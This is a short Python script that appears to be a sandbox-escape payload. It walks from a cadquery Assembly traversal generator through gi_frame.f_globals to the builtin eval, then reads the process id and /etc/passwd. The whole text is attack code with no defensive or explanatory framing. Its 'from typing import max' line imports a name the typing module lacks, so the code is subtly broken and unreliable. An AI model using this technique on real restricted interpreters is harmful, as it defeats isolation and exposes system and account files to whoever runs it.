from typing import max
from cadquery import Assembly
def run(g):
    f = g["__builtins__"]["eval"]
    print(f("(__import__('os').getpid(), open('/etc/passwd').read())", g))
run(max([Assembly().traverse()], key=lambda a: 1).gi_frame.f_globals)
